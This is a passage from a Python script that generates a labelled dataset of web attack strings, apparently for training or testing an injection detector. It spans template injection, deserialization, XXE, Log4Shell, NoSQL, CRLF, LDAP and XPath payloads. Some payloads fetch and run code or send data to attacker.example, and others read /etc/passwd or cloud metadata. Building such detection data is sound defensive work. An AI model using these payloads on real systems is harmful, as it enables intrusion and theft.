    ("csv-formula-arith-dde", "-2+3+cmd|' /C calc'!A0"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\")"),
    ("xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<regex><pattern>&x;</pattern></regex>"),
    ("xml-xxe-oob-parameter", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]>\n<r/>"),
    ("xml-xxe-ssrf-metadata", "<!DOCTYPE s [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><sample>&m;</sample>"),
    ("xml-xinclude-file", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>"),
    ("xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("session-pickle+base64", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="),
    ("import-pyyaml-apply", "!!python/object/apply:os.system ['curl http://attacker.example/y | sh']"),
    ("import-snakeyaml-urlclassloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("cookie-php-object-injection", "O:8:\"Template\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("json-dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.12:1099/x\",\"autoCommit\":true}"),
    ("replacement-python-lambda", "lambda m: __import__('os').popen('id').read()"),
    ("replacement-node-child-process", "require('child_process').execSync('id').toString()"),
    ("replacement-node-constructor-chain", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("pattern-php-e-modifier", "/^(.*)$/e"),
    ("replacement-php-complex-syntax", "{${phpinfo()}}"),
    ("format-python-globals", "{user.__class__.__init__.__globals__}"),
    ("answer-jinja-subscript+unicode-escape", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f']['\\u005f\\u005fmro\\u005f\\u005f'] }}"),
    ("answer-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("answer-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("answer-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("body-jinja-template-reference", "Here's the output of my template test:\n{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}\nIs that expected?"),
    ("note-log4shell-ldap", "regex fan ${jndi:ldap://203.0.113.44:1389/Exploit}"),
    ("title-log4shell+env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}"),
    ("query-constructor-prototype", "constructor[prototype][isAdmin]=true"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&B2)"),
    ("csv-formula-dde-function", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("plain-python-eval-import", "__import__('os').system('id')"),
    ("plain-jinja-config-globals", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("xslt-php-function", "<xsl:value-of select=\"php:function('system','id')\"/>"),
    ("replacement-ruby-interpolation", "#{`id`}"),
    ("pattern-perl-code-block", "(?{ system('id') })"),
    ("pattern-python-eval-breakout", "')+__import__('os').system('id')#"),
    ("pattern-js-function-breakout", "x/+require('child_process').execSync('id')+/"),
    ("pattern-perl-postponed-code", "(??{ `cat /etc/passwd` })"),
]

CODE_ENGINES = [
    ("answer-jinja-template", "{{{{ {g}.__init__.__globals__.os.popen('{c}').read() }}}}"),
    ("answer-mako-template", "${{__import__('os').popen('{c}').read()}}"),
    ("answer-erb-template", "<%= `{c}` %>"),
    ("answer-freemarker-template", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${{e(\"{c}\")}}"),
]
CODE_GLOBALS = ["cycler", "joiner", "namespace", "lipsum.__init__"]
CODE_CMDS = ["id", "whoami", "cat /etc/hostname", "curl -s attacker.example/t|sh", "ls -la /var/www", "env"]


def gen_code(rng):
    tech, t = rng.choice(CODE_ENGINES)
    return tech, t.format(g=rng.choice(CODE_GLOBALS), c=rng.choice(CODE_CMDS))


# ------------------------------------------------------------------ nosqli
NOSQL_LIT = [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("login-regex-blind", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^p\"}}"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where-match", "{\"$where\": \"this.password.match(/^a/)\"}"),
    ("query-ne-auth", "username[$ne]=x&password[$ne]=x"),
    ("query-regex-length", "password[$regex]=^.{8}$"),
    ("json-or-empty", "{\"$or\": [{}, {\"a\": \"a\"}]}"),
    ("where-js-breakout", "'; return true; var x='"),
    ("where-js-or", "' || '1'=='1"),
    ("json-expr-true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("json-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("pipeline-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("query-nin-bypass", "tags[$nin][]=x"),
    ("json-regex-redos", "{\"$regex\": \"(a+)+$\"}"),
    ("json-token-regex-blind", "{\"reset_token\": {\"$regex\": \"^3\"}}"),
    ("json-ne-null+url", "%7B%22%24ne%22%3A%20null%7D"),
    ("json-ne+unicode-escape", "{\"\\u0024ne\": \"\"}"),
    ("query-where-sleep", "filter[$where]=sleep(5000)"),
    ("json-where-keys-sleep", "{\"$where\": \"Object.keys(this)[0].match('^_id') && sleep(2000)\"}"),
    ("plain-json-ne", "{\"password\": {\"$ne\": \"\"}}"),
    ("plain-json-ne-auth", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("query-exists-auth", "user[$exists]=true&pass[$exists]=true"),
]

NOSQL_FIELDS = ["password", "api_key", "email", "role", "reset_token"]
NOSQL_OPS = [("json-regex-blind", "{{\"{f}\": {{\"$regex\": \"^{x}\"}}}}"), ("json-gt-bypass", "{{\"{f}\": {{\"$gt\": \"\"}}}}"),
             ("query-regex-blind", "{f}[$regex]=^{x}")]


def gen_nosql(rng):
    tech, t = rng.choice(NOSQL_OPS)
    return tech, t.format(f=rng.choice(NOSQL_FIELDS), x=rng.choice("abcdef0123456789"))


# ------------------------------------------------------------------ crlf
CRLF_LIT = [
    ("header-set-cookie", "regex\r\nSet-Cookie: session=fake-session-placeholder"),
    ("header-set-cookie+url", "%0d%0aSet-Cookie:%20admin=1"),
    ("header-location+url", "%0D%0ALocation:%20https://attacker.example/"),
    ("header-response-splitting", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("log-forged-entry", "grep -E foo\n2024-05-02 10:11:12 INFO admin login succeeded from 10.0.0.1"),
    ("log-forged-kv", "sed help\r\n[2024-05-02T10:00:00Z] level=info user=admin action=grant_role role=moderator"),
    ("mail-subject-bcc", "New answer\r\nBcc: list@attacker.example"),
    ("mail-subject-html-body", "Regex question\nCc: everyone@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example>reset your password</a>"),
    ("smtp-data-smuggling", "x\r\n.\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<victim@regexhelp.example>\r\nDATA\r\nSubject: verify\r\n\r\nclick https://attacker.example\r\n.\r\n"),
    ("header-content-disposition", "report.txt\"\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    ("header-set-cookie+utf8-truncation-url", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header-set-cookie+unicode-truncation", "嘊嘍Set-Cookie: x=1"),
    ("header-injected+url2", "%250d%250aX-Injected:%201"),
    ("redirect-refresh+url", "/threads/42%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("log-syslog-forge", "title\n<13>Jan  1 00:00:00 web sshd[99]: Accepted password for root from 203.0.113.8"),
    ("log-jsonl-forge", "ok\"}\n{\"level\":\"info\",\"user\":\"admin\",\"event\":\"password_reset\"}"),
    ("log-ansi-escape", "\u001b[2J\u001b[1;1Hall clear, no errors\u001b[8m"),
    ("header-lf-forwarded-host", "en\nX-Forwarded-Host: attacker.example"),
    ("header-accel-redirect+url", "x%0aX-Accel-Redirect:%20/internal/admin"),
    ("header-cache-poison", "x\r\nX-Forwarded-Host: attacker.example"),
    ("mail-subject-bcc+url", "Subject line%0ABcc:%20spam@attacker.example"),
    ("header-body-injection", "question\r\n\r\n<html><body>Session expired, log in at https://attacker.example</body></html>"),
    ("log-forged-access-line", "fixed it\n127.0.0.1 - - [02/May/2024:10:11:12 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("header-csp+url", "%0d%0aContent-Security-Policy:%20script-src%20*"),
    ("header-escaped-crlf+escape-seq", "tag\\r\\nSet-Cookie: role=admin"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=true"),
    ("plain-crlf-header+url", "%0d%0aX-Test:%20injected"),
    ("plain-lf-location", "\nLocation: https://attacker.example/"),
    ("mail-reply-to-newline", "Re: lookbehind help\nReply-To: support@attacker.example"),
]

CRLF_PRE = ["sed", "awk", "lookahead", "Danke", "regex"]
CRLF_HDR = ["Set-Cookie: sid=placeholder", "Location: https://attacker.example/", "X-Forwarded-For: 127.0.0.1"]
CRLF_NL = [("header-crlf", "\r\n"), ("header-crlf+url", "%0d%0a"), ("header-lf", "\n")]


def gen_crlf(rng):
    tech, nl = rng.choice(CRLF_NL)
    h = rng.choice(CRLF_HDR)
    if "url" in tech:
        h = h.replace(" ", "%20")
    return tech, rng.choice(CRLF_PRE) + nl + h


# ------------------------------------------------------------------ ldap-xpath
LDAPX_LIT = [
    ("ldap-username-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("ldap-username-and-true", "admin)(&)"),
    ("ldap-search-objectclass", "*)(|(objectClass=*)"),
    ("ldap-search-description", "*)(description=*secret*"),
    ("ldap-username-or-uid", "x)(|(uid=*"),
    ("ldap-username-wildcard+url", "%2A%29%28uid%3D%2A"),
    ("xpath-login-or-true", "' or '1'='1"),
    ("xpath-login-or-numeric", "' or 1=1 or ''='"),
    ("xpath-union-password", "x'] | //user/password | a['"),
    ("xpath-count-blind", "' or count(//user)>0 or 'a'='b"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-union-all-nodes", "')] | //* | /a[('"),
    ("xpath-name-blind", "' or name(/*[1])='users' or '"),
    ("xpath-length-blind", "x' or string-length(//user[name='admin']/password)=8 or 'a'='b"),
    ("xpath-doc-oob", "' or doc('http://attacker.example/x.xml') or '"),
    ("ldap-directory-cn-wildcard", "*)(cn=*"),
    ("ldap-username-mail-wildcard", "regex*)(mail=*"),
    ("ldap-username-nullbyte+url", "admin)%00"),
    ("plain-ldap-or-wildcard", "*)(|(cn=*))"),
    ("plain-ldap-admin-wildcard", "admin*"),
    ("plain-xpath-or-empty", "' or ''='"),
    ("xpath-tag-filter-or", "regex' or @visibility='private' or 'a'='b"),
]

# ------------------------------------------------------------------ assembly
PLAN = [
    ("sqli", SQLI_LIT, gen_sqli, 10),
    ("xss", XSS_LIT, gen_xss, 10),
    ("cmdi", CMDI_LIT, gen_cmdi, 10),
    ("traversal", TRAV_LIT, gen_trav, 6),
    ("ssrf", SSRF_LIT, gen_ssrf, 6),
    ("code", CODE_LIT, gen_code, 10),
    ("nosqli", NOSQL_LIT, gen_nosql, 4),
    ("crlf", CRLF_LIT, gen_crlf, 4),
    ("ldap-xpath", LDAPX_LIT, None, 0),
]


def load_benign():
    p = Path(__file__).with_name("benign.jsonl")
    if not p.exists():
        return set()
    with p.open(encoding="utf-8") as fh:
        return {json.loads(line)["value"] for line in fh if line.strip()}


def main():
    rng = random.Random(SEED)
    benign = load_benign()
    seen = set()
    rows = []
    stats = []
    for cat, lits, gen, n_tmpl in PLAN:
        n_lit = 0
        for cls, v in lits:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        made = 0
        tries = 0
        while made < n_tmpl:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"template exhausted for {cat}")
            cls, v = gen(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, n_lit + made, n_lit))
    for cat, cls, v in rows:
        assert isinstance(v, str) and v and len(v) <= 1800, v
        assert v not in benign, f"value also in benign: {v!r}"
        assert cls == cls.strip() and " " not in cls
    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    for cat, n, lit in stats:
        print(f"{cat:12s} {n:4d}  literals={lit}")
    total_lit = sum(s[2] for s in stats)
    plain = sum(1 for r in rows if r[1].startswith("plain-"))
    enc = sum(1 for r in rows if "+" in r[1])
    print(f"total {len(rows)}  literals={total_lit} ({100 * total_lit / len(rows):.1f}%)  plain={plain}  encoded={enc}")


if __name__ == "__main__":
    main()
